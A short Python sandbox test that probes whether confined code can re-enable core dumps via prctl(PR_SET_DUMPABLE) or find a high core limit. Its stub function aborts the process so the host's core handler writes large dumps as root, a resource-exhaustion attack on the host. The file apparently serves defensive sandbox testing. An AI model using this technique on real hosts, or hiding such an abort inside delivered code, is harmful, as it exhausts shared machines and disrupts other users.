# attack: become dumpable again and crash, so that the host's core handler stores gigabytes as root
# asset: machine, time of others
# channel: kernel, memory
# beats otter: no
# expect: crashed,not_implemented
# place: after
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
PR_SET_DUMPABLE = 4
soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
if hard > 1:
    raise RuntimeError(f"ESCAPED: cores of {hard} bytes may be dumped")
# A core that goes to a program (systemd-coredump, apport) has no limit but that on dumpable processes.
if libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0) == 0:
    raise RuntimeError("ESCAPED: dumpable again")


def product_gradients(*args):
    os.abort()
